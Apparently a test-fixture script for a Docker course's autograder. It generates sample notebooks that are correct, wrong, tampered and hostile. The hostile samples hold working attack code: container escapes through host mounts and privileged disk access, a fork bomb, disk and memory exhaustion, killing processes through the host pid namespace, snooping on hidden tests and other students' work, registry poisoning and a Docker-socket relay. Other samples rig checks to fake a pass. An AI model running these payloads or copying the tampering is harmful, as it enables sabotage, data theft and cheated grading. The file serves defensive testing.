"""Write the sample submissions from the student versions (``./lab grade generate``) and the
solutions in ``labs/source``. Run it again after changing a lab:

    .venv/bin/python tests/labs_submissions/make_samples.py <course>/release

The expected scores live in ``tests/test_labs_grading.py``; this file only says what each
learner did. Each sample is the release notebook with the answer cells filled in, so the
locked cells carry the checksums nbgrader wrote (as a real submission does).
"""

from __future__ import annotations

import re
import shutil
import sys
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent / "submitted"
SOURCE = Path(__file__).resolve().parents[2] / "labs" / "source"


def solutions(lab: str) -> dict[str, str]:
    nb = nbformat.read(SOURCE / lab / f"{lab}.ipynb", as_version=4)
    out = {}
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            m = re.search(r"### BEGIN SOLUTION\n(.*?)\n### END SOLUTION", cell.source, re.DOTALL)
            out[meta["grade_id"]] = m.group(1) if m else cell.source
    return out


def fill(release: Path, lab: str, answers: dict[str, str]) -> nbformat.NotebookNode:
    """The release notebook with ``answers`` (grade_id -> code); other answers stay stubs."""
    nb = nbformat.read(release / lab / f"{lab}.ipynb", as_version=4)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    return nb


def _edit(answer: str, old: str, new: str) -> str:
    """``answer`` with ``old`` replaced; fails loudly when the reference answer no longer has it."""
    if old not in answer:
        raise SystemExit(f"the reference answer changed: {old!r} is not in\n{answer}")
    return answer.replace(old, new)


def cell(nb: nbformat.NotebookNode, gid: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def save(nb: nbformat.NotebookNode, student: str, folder: str, name: str) -> None:
    d = HERE / student / folder
    d.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, d / name)


def main(release: Path) -> None:
    sol = {lab: solutions(lab) for lab in ("lab1", "lab2", "lab3", "lab4", "lab5")}

    # alice: every lab right.
    for lab, answers in sol.items():
        save(fill(release, lab, answers), "alice", lab, f"{lab}.ipynb")

    # bob: partly right. lab1: task 1 right, size in bytes instead of MB, task 3 not done.
    save(fill(release, "lab1", {
        "task1-answer": sol["lab1"]["task1-answer"],
        "task2-answer": _edit(sol["lab1"]["task2-answer"], '.removesuffix("MB"))', '.removesuffix("MB")) * 1e6'),
    }), "bob", "lab1", "lab1.ipynb")
    # lab3: tasks 1 and 2 right, serves on the wrong port.
    save(fill(release, "lab3", {**sol["lab3"], "task3-answer":
                                _edit(sol["lab3"]["task3-answer"], "-p {PORT}:80", "-p 8083:80")}),
         "bob", "lab3", "lab3.ipynb")

    # carol: wrong. lab2: commits on top of the old image (no dangling image, only an
    # intermediate one), lists correctly, then prunes every unused image (the decoy too).
    save(fill(release, "lab2", {
        "task1-answer": _edit(sol["lab2"]["task1-answer"], "lab2-v2 busybox:1.35", "lab2-v2 practice/app:latest"),
        "task2-answer": sol["lab2"]["task2-answer"],
        "task3-answer": "%docker image prune --all --force",
    }), "carol", "lab2", "lab2.ipynb")
    # lab4: pushes under the wrong namespace; the mirror task is right.
    save(fill(release, "lab4", {
        "task1-answer": 'OTHER = REPO.replace("/lab4/", "/other/")\n' + _edit(sol["lab4"]["task1-answer"], "REPO", "OTHER"),
        "task2-answer": _edit(sol["lab4"]["task2-answer"], "REPO", "OTHER"),
        "task3-answer": sol["lab4"]["task3-answer"],
    }), "carol", "lab4", "lab4.ipynb")

    # dave: tampers. Task 1 wrong and its test cell deleted; task 2 wrong and its locked test
    # cell rewritten to print a tick; task 3 wrong, self_check rebound to always pass, and a
    # hard-coded "✔" output stored in the test cell.
    nb = fill(release, "lab1", {
        "task1-answer": 'PINNED = "busybox:1.35"',
        "task2-answer": '%docker pull -q nginx:1.22\nNGINX_LAYERS, NGINX_SIZE_MB = 99, 1.0',
        "task3-answer": ('%docker pull -q redis:7.0\n'
                         'from labs.grading import CheckResult\n'
                         'self_check = lambda *args: CheckResult(True, "找到了共享层")\n'
                         'SHARED = ["sha256:' + "0" * 64 + '"]'),
    })
    nb.cells.remove(cell(nb, "task1-pin"))
    cell(nb, "task2-layers").source = 'print("✔ nginx:1.22 的层数和大小都对")'
    fake = nbformat.v4.new_output("stream", name="stdout", text="✔ 找到了共享层\n")
    cell(nb, "task3-shared").outputs = [fake]
    save(nb, "dave", "lab1", "lab1.ipynb")

    # eve: hostile. lab1: tasks 1-2 right; task 3 starts a fork bomb, fills the disk, hangs.
    save(fill(release, "lab1", {
        "task1-answer": sol["lab1"]["task1-answer"],
        "task2-answer": sol["lab1"]["task2-answer"],
        "task3-answer": ('import time\n'
                         'lab.run("busybox:1.35", ["sh", "-c", "f() { f | f & }; f; sleep 600"], name="bomb")\n'
                         'lab.run("busybox:1.35", ["dd", "if=/dev/zero", "of=/fill", "bs=1M", "count=3000"]).wait()\n'
                         'time.sleep(3600)\n'),
    }), "eve", "lab1", "lab1.ipynb")
    # lab2: tasks 1-2 right; task 3 force-removes every image in the engine.
    save(fill(release, "lab2", {
        **sol["lab2"],
        "task3-answer": "%docker image rm --force $(docker image ls --all --quiet)",
    }), "eve", "lab2", "lab2.ipynb")

    # frank: a notebook that is not JSON, and a lab folder without the expected notebook.
    good = (HERE / "alice" / "lab1" / "lab1.ipynb").read_text()
    (HERE / "frank" / "lab1").mkdir(parents=True, exist_ok=True)
    (HERE / "frank" / "lab1" / "lab1.ipynb").write_text(good[: len(good) // 2])
    save(fill(release, "lab2", sol["lab2"]), "frank", "lab2", "实验2-副本.ipynb")

    # grace: right answers in a folder with the wrong name.
    save(fill(release, "lab3", sol["lab3"]), "grace", "lab-3", "lab3.ipynb")


# -- hostile submissions (tests/host/test_grading_hostile.py): an honest lab 1 plus an attack -------
HOSTILE = Path(__file__).resolve().parent / "hostile"
PRELUDE = (
    "import glob, os, pathlib, socket, subprocess, sys, time\n"
    "import labs.grading\n"
    "REPO = pathlib.Path(labs.grading.__file__).resolve().parents[2]\n"
    "def sh(*argv, timeout=120):\n"
    "    try:\n"
    "        r = subprocess.run(list(argv), capture_output=True, text=True, timeout=timeout)\n"
    "        return r.returncode, (r.stdout + r.stderr)[-400:]\n"
    "    except Exception as e:\n"
    "        return -1, str(e)\n"
    "print('uid', os.getuid(), 'cgroup', open('/proc/self/cgroup').read().split())\n"
)

ATTACKS = {
    # -v /:/host, --privileged + the host's disk, the kernel itself, the grader's own code
    "h-hostfs": PRELUDE + (
        "M = 'PWNED-hostfs'\n"
        "wrote = []\n"
        "for d in ['/root', '/etc', '/', str(REPO), str(REPO / 'labs' / 'grading')]:\n"
        "    try:\n"
        "        pathlib.Path(d, M).write_text('x'); wrote.append(d)\n"
        "    except OSError:\n"
        "        pass\n"
        "try:\n"
        "    with open(REPO / 'labs' / 'grading' / 'tasks.py', 'a') as f:\n"
        "        f.write('\\n# pwned\\n'); wrote.append('tasks.py')\n"
        "except OSError:\n"
        "    pass\n"
        "print('WROTE', wrote)\n"
        "print(sh('docker', 'run', '--rm', '-v', '/:/host', 'busybox:1.35', 'sh', '-c',\n"
        "         f'echo x > /host/root/{M}; echo x > /host/etc/{M}; echo x >> /host{REPO}/labs/grading/tasks.py; '\n"
        "         f'touch /host{REPO}/labs/grading/{M}.py; id'))\n"
        "print(sh('docker', 'run', '--rm', '--privileged', 'busybox:1.35', 'sh', '-c',\n"
        "         f'for d in /dev/vd? /dev/sd? /dev/xvd? /dev/nvme?n1; do mkdir -p /m && mount $d /m && '\n"
        "         f'echo x > /m/{M} && echo mounted $d; done; true'))\n"
        "print('ATTACK-RAN')\n"),
    # every loopback port of the host, --net=host, a push over the course's busybox:1.35, 0.0.0.0:8082
    "h-net": PRELUDE + (
        "from labcore.state import load_state\n"
        "reached = []\n"
        "for port in range(5000, 5201):\n"
        "    for host in ('127.0.0.1', '10.0.2.2'):\n"
        "        s = socket.socket(); s.settimeout(0.3)\n"
        "        try:\n"
        "            s.connect((host, port)); reached.append(f'{host}:{port}')\n"
        "        except OSError:\n"
        "            pass\n"
        "        finally:\n"
        "            s.close()\n"
        "print('KERNEL-REACHED', reached)\n"
        "print(sh('docker', 'run', '--rm', '--net=host', 'busybox:1.35', 'sh', '-c',\n"
        "         'for p in $(seq 5000 5200); do for h in 127.0.0.1 10.0.2.2; do '\n"
        "         'wget -q -T 1 -O /dev/null http://$h:$p/ 2>/dev/null && echo reached $h:$p; done; done; true'))\n"
        "mirror = load_state().mirror\n"
        "for target in [f'{mirror}/library/busybox:1.35', 'busybox:1.35', '127.0.0.1:5100/library/busybox:1.35',\n"
        "               '127.0.0.1:5110/library/busybox:1.35', '127.0.0.1:5000/library/busybox:1.35']:\n"
        "    sh('docker', 'tag', 'nginx:1.22', target)\n"
        "    print('push', target, sh('docker', 'push', target, timeout=60)[0])\n"
        "print(sh('docker', 'run', '-d', '-p', '0.0.0.0:8082:80', '--name', 'squat', 'nginx:1.22'))\n"
        "squat = socket.socket(); squat.bind(('0.0.0.0', 8083)); squat.listen()\n"
        "print('ATTACK-RAN')\n"),
    # --cgroup-parent, the kernel's own pid into every cgroup it can find, --stop-timeout 100000
    "h-cgroup": PRELUDE + (
        "print(sh('docker', 'run', '-d', '--cgroup-parent=/escape', 'busybox:1.35', 'sleep', '100000'))\n"
        "print(sh('docker', 'run', '-d', '--stop-timeout', '100000', 'busybox:1.35', 'sleep', '100000'))\n"
        "p = subprocess.Popen(['bash', '-c', 'exec -a dockerlab-escapee sleep 100000'])\n"
        "moved = []\n"
        "for f in glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True):\n"
        "    try:\n"
        "        pathlib.Path(f).write_text(str(p.pid)); moved.append(f)\n"
        "    except OSError:\n"
        "        pass\n"
        "print('MOVED', moved)\n"
        "print('NOW', open(f'/proc/{p.pid}/cgroup').read().split())\n"
        "print('ATTACK-RAN')\n"),
    # --pid=host: see the grader, kill everything
    "h-pidhost": PRELUDE + (
        "print('ATTACK-RAN', flush=True)\n"
        "print(sh('docker', 'run', '--rm', '--pid=host', 'busybox:1.35', 'sh', '-c',\n"
        "         'ps -o pid,user,args | grep -c labs.grading; kill -9 -1; sleep 5'))\n"),
    # fork bombs (container and kernel), memory hogs, filling the disk
    "h-resources": PRELUDE + (
        "print('ATTACK-RAN', flush=True)\n"
        "print(sh('docker', 'run', '-d', '--name', 'bomb', 'busybox:1.35', 'sh', '-c', 'f() { f | f & }; f; sleep 600'))\n"
        "time.sleep(5)\n"
        "print(sh('docker', 'run', '--rm', 'busybox:1.35', 'sh', '-c', 'tail /dev/zero'), flush=True)\n"
        "print(sh('dd', 'if=/dev/zero', f'of={os.environ[\"HOME\"]}/fill', 'bs=1M', 'count=3000'), flush=True)\n"
        "hog = []\n"
        "try:\n"
        "    while True:\n"
        "        hog.append(bytearray(64 << 20))\n"
        "except MemoryError:\n"
        "    print('MemoryError at', len(hog) * 64, 'MB')\n"),
    # the hidden tests, other learners' notebooks, the gradebook, the grader's files
    "h-snoop": PRELUDE + (
        "me = os.environ['HOME']\n"
        "targets = [REPO / 'labs/source/lab1/lab1.ipynb', REPO / 'tests/labs_submissions/submitted/alice/lab1/lab1.ipynb',\n"
        "           REPO / '.git/HEAD', REPO / '.lab/state.json', '/root/.bashrc', '/run/dockerlab-grade',\n"
        "           '/var/lib/dockerlab/.cache/dockerlab/engine/current.json']\n"
        "targets += [p for p in glob.glob('/var/lib/dockerlab-grade/*/u/course/**/*.ipynb', recursive=True)\n"
        "            if not p.startswith(me)]\n"
        "targets += glob.glob('/tmp/pytest-of-root/**/gradebook.db', recursive=True)\n"
        "targets += glob.glob('/tmp/**/submitted/**/*.ipynb', recursive=True)\n"
        "leaked = []\n"
        "for t in targets:\n"
        "    try:\n"
        "        p = pathlib.Path(t)\n"
        "        if (p.read_bytes() if p.is_file() else list(p.iterdir())):  # an empty cover is no leak\n"
        "            leaked.append(str(t))\n"
        "    except OSError:\n"
        "        pass\n"
        "rc, out = sh('docker', 'run', '--rm', '-v', '/:/host', 'busybox:1.35', 'sh', '-c',\n"
        "             f'cat /host{REPO}/labs/source/lab1/lab1.ipynb /host{REPO}/tests/labs_submissions/submitted/alice/lab1/lab1.ipynb '\n"
        "             f'2>/dev/null | head -c 100')\n"
        "if rc == 0 and out.strip():\n"
        "    leaked.append('container:' + out[:40])\n"
        "print('LEAKED', leaked)\n"
        "print('PROBE', pathlib.Path('lab1.ipynb').read_bytes()[:1] == b'{')\n"
        "print('ATTACK-RAN')\n"),
    # root's side asked to hold more than it may: 600 check requests of ~60 KB answers (the check service
    # stops at MAX_CHECKS and the submission is not graded), 3 MB of output, a stderr flood
    "h-flood": PRELUDE + (
        "from labs.grading.checks import independently\n"
        "big = 'x' * 60000\n"
        "refused = 0\n"
        "for i in range(600):\n"
        "    try:\n"
        "        independently('flood.' + 'y' * 200, big, i)\n"
        "    except AssertionError:\n"
        "        refused += 1\n"
        "    except Exception:\n"
        "        break\n"
        "print('ASKED', refused, flush=True)\n"
        "sys.stdout.write('z' * (3 << 20)); sys.stdout.flush()\n"
        "os.write(2, b'e' * (3 << 20))\n"
        "print('ATTACK-RAN')\n"),
    # a kernel that never returns (SIGINT ignored, so the cell timeout cannot interrupt it)
    "h-hang": PRELUDE + (
        "import signal\n"
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "print('ATTACK-RAN', flush=True)\n"
        "while True:\n"
        "    pass\n"),
}

# wrong answers, and every way to make the kernel say ✔: the check module shadowed from the working
# directory, independently/self_check rebound, the check service's address dropped
SHADOW = (
    "import os, pathlib, sys\n"
    "pkg = pathlib.Path('labs/grading'); pkg.mkdir(parents=True, exist_ok=True)\n"
    "pathlib.Path('labs/__init__.py').write_text('')\n"
    "(pkg / '__init__.py').write_text('')\n"
    "(pkg / 'checks.py').write_text('print(\"\\u2714 ok\")\\n')\n"
    "sys.path.insert(0, os.getcwd())\n"
    "os.environ.pop('DOCKERLAB_CHECKD', None)\n"
    "from labs.grading.checks import CheckResult\n"
    "independently = lambda *a, **k: CheckResult(True, 'ok')\n"
    "self_check = lambda *a, **k: CheckResult(True, 'ok')\n"
    "PINNED = 'busybox:1.35'\n"
)

# a server of the submission's own at its engine's socket, relaying to the real engine behind it (so every
# answer would be the engine's): root asks only the dockerd it started, so the submission is not graded
ENGINE_SWAP = (
    "import os, socket, threading\n"
    "from labcore.state import load_state\n"
    "_path = load_state().docker_host.removeprefix('unix://')\n"
    "os.rename(_path, _path + '.real')\n"
    "_srv = socket.socket(socket.AF_UNIX)\n"
    "_srv.bind(_path)\n"
    "_srv.listen(16)\n"
    "def _pipe(a, b):\n"
    "    try:\n"
    "        while d := a.recv(65536):\n"
    "            b.sendall(d)\n"
    "    except OSError:\n"
    "        pass\n"
    "    for s in (a, b):\n"
    "        try:\n"
    "            s.shutdown(socket.SHUT_RDWR)\n"
    "        except OSError:\n"
    "            pass\n"
    "def _serve():\n"
    "    while True:\n"
    "        c, _ = _srv.accept()\n"
    "        u = socket.socket(socket.AF_UNIX)\n"
    "        u.connect(_path + '.real')\n"
    "        threading.Thread(target=_pipe, args=(c, u), daemon=True).start()\n"
    "        threading.Thread(target=_pipe, args=(u, c), daemon=True).start()\n"
    "threading.Thread(target=_serve, daemon=True).start()\n"
    "print('SWAPPED', _path, flush=True)\n"
)


def _merged(*names: str) -> str:
    """Several attacks in one cell (one sandbox instead of three: the CI batch stays small)."""
    return PRELUDE + "".join(ATTACKS[n].removeprefix(PRELUDE) for n in names)


# what the CI batch grades: the non-destructive attacks share a submission; the ones that kill, hang
# or exhaust their sandbox have one each
BATCH = {
    "h-files": _merged("h-hostfs", "h-snoop", "h-cgroup"),
    **{n: ATTACKS[n] for n in ("h-net", "h-pidhost", "h-resources", "h-hang", "h-flood")},
}


def hostile(release: Path) -> None:
    sol = solutions("lab1")
    shutil.rmtree(HOSTILE, ignore_errors=True)
    for student, attack in BATCH.items():
        nb = fill(release, "lab1", sol)
        attack_cell = nbformat.v4.new_code_cell(attack)  # after the last test: the honest part counts
        attack_cell.id = f"attack-{student}"
        nb.cells.append(attack_cell)
        d = HOSTILE / student / "lab1"
        d.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, d / "lab1.ipynb")
    nb = fill(release, "lab1", {
        "task1-answer": SHADOW,
        "task2-answer": 'NGINX_LAYERS, NGINX_SIZE_MB = 99, 1.0',
        "task3-answer": 'SHARED = ["sha256:' + "0" * 64 + '"]',
    })
    d = HOSTILE / "h-shadow" / "lab1"
    d.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, d / "lab1.ipynb")
    nb = fill(release, "lab1", {**sol, "task1-answer": ENGINE_SWAP + sol["task1-answer"]})  # before any check
    d = HOSTILE / "h-engine" / "lab1"
    d.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, d / "lab1.ipynb")
    for lab in ("lab1", "lab3"):  # honest neighbours
        d = HOSTILE / "alice" / lab
        d.mkdir(parents=True, exist_ok=True)
        nbformat.write(fill(release, lab, sol_for(lab)), d / f"{lab}.ipynb")


def sol_for(lab: str) -> dict[str, str]:
    return solutions(lab)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
    hostile(Path(sys.argv[1]))
